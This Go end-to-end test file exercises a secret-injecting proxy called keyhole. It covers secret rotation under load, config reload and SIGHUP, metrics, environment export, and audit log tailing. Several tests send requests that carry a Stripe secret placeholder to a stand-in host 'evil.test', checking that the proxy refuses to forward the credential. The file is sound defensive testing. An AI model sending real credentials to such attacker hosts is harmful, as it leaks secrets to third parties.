package e2e

import (
	"fmt"
	"io"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"time"
)

// Values a rotated file: source takes.
const (
	rotatedValue1 = "rotated-SECRET-one-1111aaaa"
	rotatedValue2 = "rotated-SECRET-two-2222bbbb"
)

func init() {
	allSecretValues = append(allSecretValues, rotatedValue1, rotatedValue2)
}

func writeFile(t *testing.T, path, content string) {
	t.Helper()
	tmp := path + ".tmp"
	if err := os.WriteFile(tmp, []byte(content), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.Rename(tmp, path); err != nil {
		t.Fatal(err)
	}
}

func TestReloadAndRotationUnderTraffic(t *testing.T) {
	up := newUpstream(t, []string{"api.rot.test", "other.test"}, nil)
	dir := t.TempDir()
	secretFile := filepath.Join(dir, "rot-secret")
	writeFile(t, secretFile, rotatedValue1+"\n")
	rulesFor := func(extraHost string) string {
		return fmt.Sprintf(`
secrets:
  ROT:
    source: file:%s
    hosts: [api.rot.test%s]
resolve:
  api.rot.test: %s
  other.test: %s
`, secretFile, extraHost, up.Addr(), up.Addr())
	}
	k := startKeyhole(t, rulesFor(""))
	c := k.GoClient(t, "", "")
	get := func(url string) (int, error) {
		req, _ := http.NewRequest("GET", url, nil)
		req.Header.Set("Authorization", "Bearer <<ROT>>")
		resp, err := c.Do(req)
		if err != nil {
			return 0, err
		}
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		return resp.StatusCode, nil
	}

	// Traffic throughout: not one request may fail.
	var failures atomic.Int64
	var sent atomic.Int64
	stop := make(chan struct{})
	var wg sync.WaitGroup
	var stopOnce sync.Once
	halt := func() { stopOnce.Do(func() { close(stop) }); wg.Wait() }
	defer halt()
	for i := 0; i < 4; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for {
				select {
				case <-stop:
					return
				default:
				}
				status, err := get("https://api.rot.test/x")
				sent.Add(1)
				if err != nil || status != 200 {
					failures.Add(1)
					t.Logf("request failed during reload: %d %v", status, err)
				}
			}
		}()
	}

	waitUpstream := func(what, want string) {
		t.Helper()
		deadline := time.Now().Add(1500 * time.Millisecond)
		for time.Now().Before(deadline) {
			if up.Hits() > 0 && up.Last(t).Header.Get("Authorization") == "Bearer "+want {
				return
			}
			time.Sleep(20 * time.Millisecond)
		}
		t.Fatalf("%s: the upstream did not get the new value within 1.5s", what)
	}
	waitUpstream("start", rotatedValue1)

	// Rotation: the source file changes.
	writeFile(t, secretFile, rotatedValue2+"\n")
	waitUpstream("rotation", rotatedValue2)
	k.WaitAudit(t, func(r map[string]any) bool { return r["event"] == "reload" && r["ok"] == true })

	// A broken rules file keeps the old rules in force.
	writeFile(t, k.Rules, "secrets:\n  ROT:\n    hosts: 42\n")
	rec := k.WaitAudit(t, func(r map[string]any) bool { return r["event"] == "reload" && r["ok"] == false })
	if errs := fmt.Sprint(rec["errors"]); !strings.Contains(errs, k.Rules+":3:") {
		t.Errorf("reload errors %s lack FILE:LINE", errs)
	}
	if !strings.Contains(k.stderr.String(), k.Rules+":3:") {
		t.Error("the operational log lacks the reload error with FILE:LINE")
	}
	// A half-written file, too.
	full := rulesFor(", other.test")
	os.WriteFile(k.Rules, []byte(full[:len(full)/2]), 0o600)
	time.Sleep(600 * time.Millisecond)
	if status, _ := get("https://other.test/x"); status != 403 {
		t.Errorf("other.test: got %d, want 403 under the old rules", status)
	}

	// A good file takes effect; so does SIGHUP.
	writeFile(t, k.Rules, full)
	deadline := time.Now().Add(1500 * time.Millisecond)
	for {
		if status, _ := get("https://other.test/x"); status == 200 {
			break
		}
		if time.Now().After(deadline) {
			t.Fatal("the fixed rules file did not take effect within 1.5s")
		}
		time.Sleep(20 * time.Millisecond)
	}
	reloads := strings.Count(k.stdout.String(), `"event":"reload","ok":true`)
	k.cmd.Process.Signal(syscall.SIGHUP)
	deadline = time.Now().Add(time.Second)
	for strings.Count(k.stdout.String(), `"event":"reload","ok":true`) == reloads {
		if time.Now().After(deadline) {
			t.Fatal("SIGHUP did not reload the rules")
		}
		time.Sleep(20 * time.Millisecond)
	}

	halt()
	if n := failures.Load(); n > 0 {
		t.Fatalf("%d of %d requests failed during reloads", n, sent.Load())
	}
	t.Logf("%d requests, none failed, across rotation, a broken file, a half-written file, a fix and SIGHUP", sent.Load())
}

func TestMetricsAndHealth(t *testing.T) {
	w := newWorld(t, "", "KEYHOLE_ADMIN_LISTEN=127.0.0.1:0")
	m := regexp.MustCompile(`admin_addr=(\S+)`).FindStringSubmatch(w.k.stderr.String())
	if m == nil {
		t.Fatal("no admin address in the log")
	}
	admin := "http://" + m[1]
	c := goClient{}
	for i := 0; i < 2; i++ {
		if resp := c.Do(t, w.k, stripeReq); resp.Status != 200 {
			t.Fatalf("got %d", resp.Status)
		}
	}
	c.Do(t, w.k, request{URL: "https://evil.test/", Header: [][2]string{{"Authorization", "Bearer <<STRIPE>>"}}})
	for _, path := range []string{"/healthz", "/readyz"} {
		resp, err := http.Get(admin + path)
		if err != nil || resp.StatusCode != 200 {
			t.Fatalf("%s: %v %v", path, resp, err)
		}
		resp.Body.Close()
	}
	resp, err := http.Get(admin + "/metrics")
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	text := string(body)
	for _, want := range []string{
		`keyhole_requests_total{decision="allow",reason=""} 2`,
		`keyhole_requests_total{decision="deny",reason="host_not_allowed"} 1`,
		`keyhole_injections_total{agent="anonymous",secret="STRIPE"} 2`,
		`keyhole_scrubbed_values_total 4`,
		`keyhole_request_duration_seconds_count 3`,
		`keyhole_leaf_cache_misses_total 2`,
		`keyhole_open_tunnels`,
	} {
		if !strings.Contains(text, want) {
			t.Errorf("metrics lack %q", want)
		}
	}
	assertNoSecretIn(t, "metrics", text)

	if out, stderr, code := runKeyhole(t, []string{"KEYHOLE_ADMIN_LISTEN=" + m[1]}, "health"); code != 0 || out != "ok\n" {
		t.Errorf("keyhole health: exit %d %q %s", code, out, stderr)
	}
	if _, _, code := runKeyhole(t, []string{"KEYHOLE_ADMIN_LISTEN=" + closedPort(t)}, "health"); code == 0 {
		t.Error("keyhole health succeeded against a closed port")
	}
}

func TestEnvForContainers(t *testing.T) {
	k := startKeyhole(t, `
secrets:
  STRIPE:
    source: env:STRIPE_KEY
    hosts: [api.stripe.test]
agents:
  bot:
    token: env:BOT_TOKEN
    secrets: [STRIPE]
`, "BOT_TOKEN=bot-static-token")
	public := filepath.Join(t.TempDir(), "public")
	out := filepath.Join(public, "agent.env")
	env := []string{"KEYHOLE_STATE_DIR=" + k.StateDir, "KEYHOLE_RULES=" + k.Rules, "BOT_TOKEN=bot-static-token"}
	if _, stderr, code := runKeyhole(t, env, "env"); code == 0 || !strings.Contains(stderr, "--agent") {
		t.Errorf("env without --agent on rules with agents: exit %d %s", code, stderr)
	}
	os.MkdirAll(public, 0o755)
	if _, stderr, code := runKeyhole(t, env, "env", "--agent", "bot", "--proxy", "http://keyhole:8080", "--ca-dir", public, "--output", out); code != 0 {
		t.Fatalf("env: %s", stderr)
	}
	b, err := os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	text := string(b)
	for _, want := range []string{
		"export HTTPS_PROXY='http://bot:bot-static-token@keyhole:8080'",
		"export SSL_CERT_FILE='" + filepath.Join(public, "ca-bundle.pem") + "'",
		"export NODE_EXTRA_CA_CERTS='" + filepath.Join(public, "ca.pem") + "'",
		"export STRIPE='<<STRIPE>>'",
	} {
		if !strings.Contains(text, want) {
			t.Errorf("exports lack %q:\n%s", want, text)
		}
	}
	if _, err := os.Stat(filepath.Join(public, "ca-key.pem")); err == nil {
		t.Error("the CA key was written to the public directory")
	}
	minted, stderr, code := runKeyhole(t, env, "env", "--agent", "bot", "--ttl", "5m")
	if code != 0 || !strings.Contains(minted, "bot:kh1_") {
		t.Errorf("env --ttl did not export a minted token: %s", stderr)
	}
}

func TestEnvThenClientsWorkWithNoOtherSetting(t *testing.T) {
	need(t, "git")
	repoRoot := t.TempDir()
	makeRepo(t, repoRoot, "hello through keyhole")
	// The git server wants the real token as the Basic password.
	gitServer := newGitServer(t, repoRoot, func() string { return githubValue })
	echoUp := newUpstream(t, []string{"api.stripe.test"}, nil)
	k := startKeyhole(t, fmt.Sprintf(`
secrets:
  STRIPE:
    source: env:STRIPE_KEY
    hosts: [api.stripe.test]
    env: STRIPE_API_KEY
  GITHUB:
    source: env:GITHUB_KEY
    hosts: [git.test]
resolve:
  git.test: %s
  api.stripe.test: %s
`, gitServer.Addr(), echoUp.Addr()))

	envOut, stderr, code := runKeyhole(t, []string{"KEYHOLE_STATE_DIR=" + k.StateDir, "KEYHOLE_RULES=" + k.Rules, "KEYHOLE_LISTEN=" + k.Addr}, "env")
	if code != 0 {
		t.Fatalf("keyhole env: %s", stderr)
	}
	for _, want := range []string{"HTTPS_PROXY=", "https_proxy=", "SSL_CERT_FILE=", "REQUESTS_CA_BUNDLE=", "CURL_CA_BUNDLE=",
		"NODE_EXTRA_CA_CERTS=", "GIT_SSL_CAINFO=", "PIP_CERT=", "NPM_CONFIG_CAFILE=", "NO_PROXY=",
		"export STRIPE_API_KEY='<<STRIPE>>'", "export GITHUB='<<GITHUB>>'"} {
		if !strings.Contains(envOut, want) {
			t.Errorf("keyhole env lacks %q", want)
		}
	}
	envFile := filepath.Join(t.TempDir(), "env.sh")
	os.WriteFile(envFile, []byte(envOut), 0o600)
	clone := filepath.Join(t.TempDir(), "clone")
	script := `set -e
eval "$(cat "$ENV_FILE")"
curl -sS -f -H "Authorization: Bearer $STRIPE_API_KEY" https://api.stripe.test/v1/env-curl
python3 -c 'import os, requests; print(requests.get("https://api.stripe.test/v1/env-python", headers={"Authorization": "Bearer " + os.environ["STRIPE_API_KEY"]}).status_code)'
git -c credential.helper= clone -q "https://agent:$GITHUB@git.test/repo.git" "$CLONE"
cat "$CLONE/README"
`
	for _, tool := range []string{"curl", "python3"} {
		need(t, tool)
	}
	cmd := exec.Command("bash", "-c", script)
	cmd.Env = append(baseEnv(), "ENV_FILE="+envFile, "CLONE="+clone, "GIT_TERMINAL_PROMPT=0",
		"REQUESTS_CA_BUNDLE=", "CURL_CA_BUNDLE=", "SSL_CERT_FILE=")
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("clients after eval $(keyhole env): %v\n%s", err, out)
	}
	if !strings.Contains(string(out), "hello through keyhole") || !strings.Contains(string(out), "200") {
		t.Fatalf("unexpected output:\n%s", out)
	}
	assertNoSecretIn(t, "client output", string(out))
	for _, p := range []string{"/v1/env-curl", "/v1/env-python"} {
		found := false
		echoUp.mu.Lock()
		for _, r := range echoUp.reqs {
			found = found || (r.URL.Path == p && r.Header.Get("Authorization") == "Bearer "+stripeValue)
		}
		echoUp.mu.Unlock()
		if !found {
			t.Errorf("%s: the upstream did not receive the injected secret", p)
		}
	}
	if remote, _ := exec.Command("git", "-C", clone, "remote", "get-url", "origin").Output(); strings.Contains(string(remote), githubValue) {
		t.Error("the clone's remote URL holds the real token")
	}
}

func TestAuditLogRotationAndTail(t *testing.T) {
	up := newUpstream(t, []string{"api.stripe.test", "evil.test"}, nil)
	auditPath := filepath.Join(t.TempDir(), "audit.jsonl")
	k := startKeyhole(t, fmt.Sprintf(`
secrets:
  STRIPE:
    source: env:STRIPE_KEY
    hosts: [api.stripe.test]
resolve:
  api.stripe.test: %s
  evil.test: %s
`, up.Addr(), up.Addr()), "KEYHOLE_AUDIT_LOG="+auditPath)

	// Follow the log while traffic happens.
	follow := exec.Command(binary, "audit", "tail", "-f", "--denied", auditPath)
	follow.Env = baseEnv()
	var followed syncBuffer
	follow.Stdout = &followed
	if err := follow.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() { follow.Process.Kill(); follow.Wait() }()
	time.Sleep(300 * time.Millisecond)

	c := goClient{}
	c.Do(t, k, stripeReq)
	c.Do(t, k, request{URL: "https://evil.test/v1/x", Header: [][2]string{{"Authorization", "Bearer <<STRIPE>>"}}})
	os.Rename(auditPath, auditPath+".1")
	k.cmd.Process.Signal(syscall.SIGHUP)
	time.Sleep(300 * time.Millisecond)
	c.Do(t, k, request{URL: "https://evil.test/after-rotation", Header: [][2]string{{"Authorization", "Bearer <<STRIPE>>"}}})

	deadline := time.Now().Add(3 * time.Second)
	for !strings.Contains(followed.String(), "/after-rotation") && time.Now().Before(deadline) {
		time.Sleep(50 * time.Millisecond)
	}
	out := followed.String()
	if !strings.Contains(out, "evil.test/v1/x") || !strings.Contains(out, "host_not_allowed") || !strings.Contains(out, "/after-rotation") {
		t.Errorf("audit tail -f --denied did not follow the refusals across rotation:\n%s", out)
	}
	if strings.Contains(out, "/v1/charges") {
		t.Errorf("--denied showed an allowed request:\n%s", out)
	}
	rotated, _ := os.ReadFile(auditPath + ".1")
	current, _ := os.ReadFile(auditPath)
	if !strings.Contains(string(rotated), "/v1/charges") || !strings.Contains(string(current), "/after-rotation") {
		t.Errorf("after SIGHUP the records did not go to the new file")
	}

	stdout, stderr, code := runKeyhole(t, nil, "audit", "tail", "--agent", "anonymous", "--host", "api.stripe.test", auditPath+".1")
	if code != 0 || !strings.Contains(stdout, "api.stripe.test/v1/charges") || strings.Contains(stdout, "evil.test") {
		t.Errorf("audit tail with filters: exit %d\n%s%s", code, stdout, stderr)
	}
	stdout, _, code = runKeyhole(t, nil, "audit", "summary", auditPath+".1")
	if code != 0 || !strings.Contains(stdout, "host_not_allowed") || !strings.Contains(stdout, "STRIPE") {
		t.Errorf("audit summary: exit %d\n%s", code, stdout)
	}
	assertNoSecretIn(t, "audit tail", out+stdout)
}
